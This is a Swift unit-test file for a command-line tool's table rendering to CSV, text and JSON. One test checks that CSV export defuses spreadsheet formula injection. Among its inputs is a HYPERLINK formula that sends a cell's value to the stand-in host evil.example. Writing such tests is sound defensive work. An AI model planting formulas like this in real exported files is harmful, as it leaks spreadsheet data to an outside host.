import CivilTime
import Foundation
import Testing

@testable import KartoitinCommand

@Suite("Tables of the command line")
struct TableTests {
    private struct Row {
        let start: Date
        let count: Int
        let isOpen: Bool
        let note: String?
        let names: [String]
    }

    private let clock = WallClock(timeZone: "Europe/Helsinki")
    private let rows = [
        Row(
            start: Date(timeIntervalSince1970: 4_099_762_800), count: 3, isOpen: true, note: "a \"b\", c",
            names: ["x", "y"]),
        Row(start: Date(timeIntervalSince1970: 4_099_762_860), count: 12, isOpen: false, note: nil, names: []),
    ]

    private let table = Table<Row>(
        "rows",
        [
            Column("start") { $0.start },
            Column("count") { $0.count },
            Column("open") { $0.isOpen },
            Column("note") { $0.note },
            Column("names") { $0.names },
            Column("half", in: .tables) { $0.count / 2 },
            Column("marked", in: .json) { CellAndJSON.mark($0.isOpen, "open") },
        ])

    @Test("Headings, cells and CSV come from one list of columns, each value as its type is written")
    func grid() {
        #expect(
            table.grid(rows, on: clock).csv == """
                start,count,open,note,names,half
                2099-12-01T01:00:00+02:00,3,yes,"a ""b"", c",x y,1
                2099-12-01T01:01:00+02:00,12,no,,,6
                """)
        #expect(
            table.grid(rows).text == """
                start                 count  open  note      names  half
                2099-11-30T23:00:00Z  3      yes   a "b", c  x y    1
                2099-11-30T23:01:00Z  12     no                     6
                """)
    }

    @Test(
        "In CSV no text is a formula for a spreadsheet; days and numbers stay as they are",
        arguments: [
            ("@SUM(A1)", "'@SUM(A1)"), ("+358401234567", "'+358401234567"), ("-2+3", "'-2+3"), ("=1", "'=1"),
            ("\t=1", "'\t=1"), ("\r=1", "\"'\r=1\""), ("\r\n=1", "\"'\r\n=1\""), ("-", "-"), ("-a", "'-a"),
            ("-1,5", "\"'-1,5\""),
            (
                #"=HYPERLINK("http://evil.example/?x="&A2,"avaa")"#,
                #""'=HYPERLINK(""http://evil.example/?x=""&A2,""avaa"")""#
            ),
            ("-3", "-3"), ("-3.5", "-3.5"), ("23.1", "23.1"),
            ("2099-12-01T09:00:00+02:00", "2099-12-01T09:00:00+02:00"),
            ("a=1", "a=1"), ("040 123 4567", "040 123 4567"), ("'=1", "'=1"), ("", ""),
        ])
    func formulas(_ cell: String, _ field: String) {
        #expect(Grid(headings: ["x"], rows: [[cell]]).csv == "x\n" + field)
    }

    @Test("In JSON the same names are keys, and a missing value is left out")
    func json() throws {
        let text = String(decoding: try Output.encoded(table.json(rows, on: clock)), as: UTF8.self)
        #expect(
            text == #"[{"count":3,"marked":true,"names":["x","y"],"note":"a \"b\", c","open":true,"#
                + #""start":"2099-12-01T01:00:00+02:00"},"#
                + #"{"count":12,"marked":false,"names":[],"open":false,"start":"2099-12-01T01:01:00+02:00"}]"#)
    }

    @Test("A column of a part serves rows of the whole")
    func part() {
        let column = Column<Int>("count") { $0 }.of { (row: Row) in row.count }
        #expect(Table("rows", [column]).grid(rows).rows == [["3"], ["12"]])
    }
}
